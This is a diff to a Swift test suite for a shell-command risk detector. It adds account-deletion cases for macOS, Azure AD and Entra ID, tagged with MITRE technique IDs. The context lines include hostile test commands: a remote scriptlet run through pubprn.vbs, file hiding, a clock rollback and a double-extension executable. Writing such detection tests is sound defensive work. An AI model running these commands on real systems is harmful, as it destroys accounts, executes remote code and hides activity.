@@ -146,6 +146,11 @@ import Testing
         Case(rule: "script: moniker with a remote script", command: #"cscript.exe /b C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs localhost "script:https://example.com/x.sct""#, dialect: .cmd, technique: "T1216.001"),
         Case(rule: "file hidden through its attributes", command: #"$f = Get-Item $env:temp\x.txt -Force; $f.Attributes = 'Hidden'"#, dialect: .powershell, atLeast: .medium, technique: "T1564.001"),
         Case(rule: "clock set with date's short form", command: "date 010100001971", dialect: .sh, atLeast: .medium, technique: "T1070.006"),
+        // Accounts deleted elsewhere than with userdel or net user (T1531 already covers those).
+        Case(rule: "macOS account deleted", command: "dscl . -delete /Users/bob", dialect: .sh, technique: "T1531"),
+        Case(rule: "macOS account deleted through sudo sysadminctl", command: "sudo sysadminctl -deleteUser bob", dialect: .sh, technique: "T1531"),
+        Case(rule: "cloud directory account deleted", command: "az ad user delete --id bob@example.com", dialect: .sh, technique: "T1531"),
+        Case(rule: "Entra ID account deleted", command: "Remove-AzureADUser -ObjectId bob@example.com", dialect: .powershell, technique: "T1531"),
         Case(rule: "double extension", command: "echo 'id' > /tmp/report.pdf.sh; chmod +x /tmp/report.pdf.sh; /tmp/report.pdf.sh", dialect: .sh, technique: "T1036.007"),
     ]
 
@@ -206,6 +211,8 @@ import Testing
         Case(rule: "the date shown", command: "date +%Y%m%d", dialect: .sh, atLeast: .none),
         Case(rule: "a file's attributes read", command: "(Get-Item C:\\x.txt).Attributes", dialect: .powershell, atLeast: .low),
         Case(rule: "an ordinary file stream", command: #"$h = New-Object IO.FileStream "C:\x\data.bin", 'Open'"#, dialect: .powershell, atLeast: .medium),
+        Case(rule: "cloud directory users listed", command: "az ad user list", dialect: .sh, atLeast: .medium),
+        Case(rule: "macOS accounts listed", command: "sysadminctl -list", dialect: .sh, atLeast: .medium),
         Case(rule: "an EXIT trap", command: "trap 'rm -f /tmp/lock' EXIT", atLeast: .medium),
         Case(rule: "a DEBUG trap that does not copy commands", command: "trap 'echo step' DEBUG", atLeast: .low),
         Case(rule: "the pod's namespace read", command: "cat /run/secrets/kubernetes.io/serviceaccount/namespace", dialect: .sh, atLeast: .low),
